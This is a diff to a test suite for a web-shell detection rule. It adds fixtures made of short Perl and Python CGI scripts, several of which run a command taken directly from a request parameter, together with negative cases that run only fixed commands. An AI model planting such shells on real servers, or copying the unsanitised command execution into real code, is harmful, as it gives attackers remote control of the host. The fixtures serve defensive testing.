@@ -52,6 +52,31 @@ describe('CGI scripts', () => {
       '/usr/lib/cgi-bin/q',
       "#!/usr/bin/env python3\nimport os, subprocess\nq = os.environ['QUERY_STRING']\nprint(subprocess.check_output(q, shell=True))\n",
     ],
+    [
+      'a Perl CGI opening a pipe whose handle is a quoted name',
+      '/usr/lib/cgi-bin/shell.cgi',
+      '#!/usr/bin/perl\nuse CGI qw(:standard);\n$command = param(\'command\');\n$command = \'ls -l\' unless $command;\nopen ("COMH", "$command |");\nprint while <COMH>;\n',
+    ],
+    [
+      'a Python CGI reading the query through a function of its own',
+      '/var/www/cgi-bin/l.py',
+      "import os\ndef get(name):\n    q_str = os.environ['QUERY_STRING']\n    for q in q_str.split('&'):\n        if q.split('=')[0] == name:\n            return q.split('=')[1]\n\ncmd = get('cmd')\nprint('Content-type: text/html\\n')\nprint(os.popen(cmd).read())\n",
+    ],
+    [
+      'a Python CGI whose helper reads the form it holds',
+      '/var/www/cgi-bin/spy.py',
+      "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\ndef getvalue(key):\n    if key in form:\n        return form.getvalue(key)\n    return ''\n\nshell_cmd = getvalue('command').strip()\np = subprocess.Popen(shell_cmd, shell=True, stdout=subprocess.PIPE)\n",
+    ],
+    [
+      'a Python CGI handing a form field to a function of its own that runs its parameter',
+      '/var/www/cgi-bin/a.py',
+      "#!/usr/bin/python\nimport cgi, os\ndef ExecuteCommandCode(cmdPath, command):\n    cmd = [cmdPath, '-c', '%s' % command]\n    i, o, e = os.popen3(cmd)\n    return o.read()\n\nform = cgi.FieldStorage()\nz1 = form.getvalue('z1')\nz2 = form.getvalue('z2')\nprint(ExecuteCommandCode(z1, z2))\n",
+    ],
+    [
+      'a Perl CGI handing a parameter to a sub of its own that opens a pipe on it',
+      '/usr/lib/cgi-bin/r.cgi',
+      '#!/usr/bin/perl\nuse CGI;\nsub run_it {\n  my ($c) = @_;\n  open(my $p, "$c 2>&1 |");\n  print while <$p>;\n}\nmy $q = CGI->new;\nrun_it($q->param(\'c\'));\n',
+    ],
   ])('calls %s a web shell', (_, path, text) => {
     expect(top(path, text)).toMatchObject({
       rule: 'web-shell',
@@ -80,6 +105,16 @@ describe('CGI scripts', () => {
       'a shell script outside any web place that reads no request',
       '/usr/local/bin/backup.sh',
       '#!/bin/sh\nCMD="tar czf /backup.tgz /etc"\neval "$CMD"\n',
+    ],
+    [
+      'a Python CGI reading the query through a function of its own, for a fixed program',
+      '/var/www/cgi-bin/lookup.py',
+      "import os, subprocess\ndef get(name):\n    q_str = os.environ['QUERY_STRING']\n    for q in q_str.split('&'):\n        if q.split('=')[0] == name:\n            return q.split('=')[1]\n\nhost = get('host')\nprint('Content-type: text/plain\\n')\nsubprocess.run(['host', host])\nprint(os.popen('uptime').read())\n",
+    ],
+    [
+      'a Python CGI whose own runner is called with fixed commands only',
+      '/var/www/cgi-bin/stats.py',
+      "#!/usr/bin/python3\nimport cgi, os\ndef run(command):\n    return os.popen(command).read()\n\nform = cgi.FieldStorage()\nname = form.getvalue('name')\nprint('Content-type: text/plain\\n')\nprint(name, run('uptime'), run('df -h'))\n",
     ],
   ])('does not call %s a web shell', (_, path, text) => {
     expect(top(path, text).severity).not.toMatch(/high|critical/);
